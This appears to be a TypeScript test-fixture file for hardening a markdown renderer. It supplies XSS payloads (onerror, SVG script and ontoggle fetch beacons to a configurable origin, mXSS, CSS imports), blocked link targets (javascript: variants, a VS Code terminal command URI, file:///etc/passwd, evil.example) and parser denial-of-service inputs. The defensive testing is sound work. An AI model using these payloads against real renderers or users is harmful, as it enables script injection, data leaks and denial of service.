// Text that attacks whoever draws it (abuse cases A08 to A16, A27, A36); `origin` is where a leak would be noticed.

export function hostileMarkdown(origin: string): string {
  return [
    `![alt text](${origin}/image.png?q=SECRET) ![](${origin}/bare.png) ![ref][r] [![in link](${origin}/nested.png)](${origin}/link)`,
    `[r]: ${origin}/reference.png "title"`,
    `<img src="${origin}/img.png" onerror="fetch('${origin}/onerror')"> inline <img src=${origin}/inline.png>`,
    `<video poster="${origin}/poster.png" src="${origin}/v.mp4"></video>`,
    `<svg><image href="${origin}/svg.png"/><script>fetch('${origin}/svg')</script></svg>`,
    `<link rel="prefetch" href="${origin}/prefetch"><link rel="dns-prefetch" href="${origin}"><link rel=stylesheet href="${origin}/s.css">`,
    `<meta http-equiv="refresh" content="0;url=${origin}/refresh">`,
    `<iframe src="${origin}/iframe"></iframe><object data="${origin}/object"></object><embed src="${origin}/embed">`,
    `<style>@import url("${origin}/import.css"); body { background: url("${origin}/body.png") }</style>`,
    `<div style="background:url(${origin}/style.png)">styled</div>`,
    `<form action="${origin}/form"><input autofocus onfocus="fetch('${origin}/focus')"></form><base href="${origin}/">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=${origin}/mxss onerror=alert(1)>">`,
    `- <details open ontoggle="fetch('${origin}/toggle')">\n- | <img src=${origin}/cell.png> |\n\n| a | b |\n|---|---|\n| ![c](${origin}/table.png) | <img src=${origin}/td.png> |`,
    `> <img src="${origin}/quote.png">\n\n# <img src="${origin}/heading.png">`,
    '```mermaid\ngraph TD; A[<img src=x>] --> B\n```',
    '```html\n<script>alert(1)</script>\n```',
    `\u001b[31mred\u001b[0m bidi \u202e gnp.exe zero\u200bwidth tag\u{e0041}\u{e0042} <!-- ${origin}/comment`,
  ].join('\n\n');
}

/** Link targets that have to stay text. */
export const refusedTargets = [
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '&#106;avascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<b>x',
  'vscode://publisher.extension/?prompt=x',
  'file:///etc/passwd',
  'vscode-webview://x/',
  'vbscript:x',
  '//evil.example/x',
  'http:\\\\evil.example',
  'blob:https://x/y',
  'ftp://x/y',
] as const;

/** Text that costs a naive reader quadratic time or its stack; each about this many characters. */
export function costlyTexts(length: number): Readonly<Record<string, string>> {
  const repeat = (text: string): string => text.repeat(Math.ceil(length / text.length)).slice(0, length);
  const levels = Math.floor(Math.sqrt(length));
  return {
    'open brackets': repeat('['),
    'open images': repeat('!['),
    'open links': repeat('[a](b'),
    stars: repeat('*'),
    'opening stars': repeat('*a '),
    'mixed stars': repeat('***a** '),
    'stars in brackets': repeat('(*a'),
    underscores: repeat('_a_'),
    tildes: repeat('~a~b'),
    backticks: Array.from({ length: levels }, (_, index) => `${'`'.repeat(index + 1)}a`).join(''),
    'opening tags': repeat('<a '),
    'nested quotes': repeat('> '),
    'nested quotes, many lines': `${'> '.repeat(50)}x\n`.repeat(Math.ceil(length / 102)),
    'nested lists on one line': repeat('- '),
    'nested lists by indentation': Array.from(
      { length: levels },
      (_, index) => `${' '.repeat(index * 2)}- a`,
    ).join('\n'),
    'one line': repeat('a'),
    'one paragraph': repeat('word '),
    'one fence': `\`\`\`js\n${repeat('const value = compute(1, 2);\n')}`,
    'one line in a fence': `\`\`\`js\n${repeat('x=1;')}`,
    'one list': repeat('- an item of a list that goes on\n'),
    'one list item': `- top\n${repeat('  - an item below it\n')}`,
    'one table': `| a | b | c |\n|---|---|---|\n${repeat('| 1 | two | `three` |\n')}`,
    'one quote': repeat('> a line of a quote\n'),
    'one block of HTML': `<div>\n${repeat('<b>x</b>\n')}`,
    definitions: repeat('[a]: b\n'),
    'blank lines': repeat('\n'),
    headings: repeat('# a\n'),
  };
}
